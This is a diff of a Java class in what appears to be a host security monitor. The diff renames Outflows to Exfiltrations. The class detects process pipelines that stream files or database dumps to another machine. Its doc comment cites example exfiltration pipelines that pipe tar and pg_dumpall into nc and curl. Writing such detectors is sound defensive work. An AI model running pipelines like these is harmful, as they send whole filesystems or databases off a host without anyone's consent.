@@ -1,6 +1,6 @@
 package io.totem.policy.behaviour;
 
-import io.totem.policy.facts.Relations.Outflow;
+import io.totem.policy.facts.Relations.Exfiltration;
 import io.totem.policy.warning.ProgramKind;
 import io.totem.procfs.Connection;
 import io.totem.procfs.ProcessInspector;
@@ -22,7 +22,7 @@ import java.util.stream.IntStream;
  * Finds pipelines in which a program that reads files or databases feeds one that sends what it gets to another machine as it is:
  * {@code tar c / | nc host 9}, {@code pg_dumpall | curl -T - …}. SSH and rsync, which backups go by, ask who is there and are left alone.
  */
-final class Outflows {
+final class Exfiltrations {
 
     private static final int MOST_BETWEEN = 5;
 
@@ -54,7 +54,7 @@ final class Outflows {
     private final Map<Integer, Looked> looked;
     private final Map<String, ProcessSample> writers = new HashMap<>();
 
-    Outflows(ProcessInspector inspector, ProcessSweep sweep, Map<Integer, Looked> looked) {
+    Exfiltrations(ProcessInspector inspector, ProcessSweep sweep, Map<Integer, Looked> looked) {
         this.inspector = inspector;
         this.sweep = sweep;
         this.looked = looked;
@@ -78,7 +78,7 @@ final class Outflows {
         for (ProcessSample sender : senders) {
             Looked seen = looked.get(sender.pid());
             seen.asked();
-            outflow(sender, seen)
+            exfiltration(sender, seen)
                     .ifPresent(found -> seen.relates(seen.relations().sending(found)));
         }
     }
@@ -87,7 +87,7 @@ final class Outflows {
         if (seen == null
                 || seen.kind().isEmpty()
                 || seen.related()
-                || seen.relations().outflow().isPresent()) {
+                || seen.relations().exfiltration().isPresent()) {
             return false;
         }
         Optional<ProgramKind> kind = seen.kind();
@@ -130,19 +130,19 @@ final class Outflows {
         return false;
     }
 
-    private Optional<Outflow> outflow(ProcessSample sender, Looked seen) {
+    private Optional<Exfiltration> exfiltration(ProcessSample sender, Looked seen) {
         Optional<String> secret =
                 seen.kind().filter(ProgramKind.DOWNLOADER::equals).flatMap(_ -> uploaded(sender.commandLine()));
         if (secret.isPresent()) {
-            return destination(sender).map(to -> new Outflow(secret.get(), secret, to));
+            return destination(sender).map(to -> new Exfiltration(secret.get(), secret, to));
         }
         String input = seen.pipes().input();
         if (input.startsWith("/")) {
-            return destination(sender).map(to -> new Outflow(input, secret(List.of(input)), to));
+            return destination(sender).map(to -> new Exfiltration(input, secret(List.of(input)), to));
         }
         return source(input)
                 .flatMap(source -> destination(sender)
-                        .map(to -> new Outflow(ProgramKind.applet(source), secret(source.commandLine()), to)));
+                        .map(to -> new Exfiltration(ProgramKind.applet(source), secret(source.commandLine()), to)));
     }
 
     /** What a shell writes is a text of its own making. */
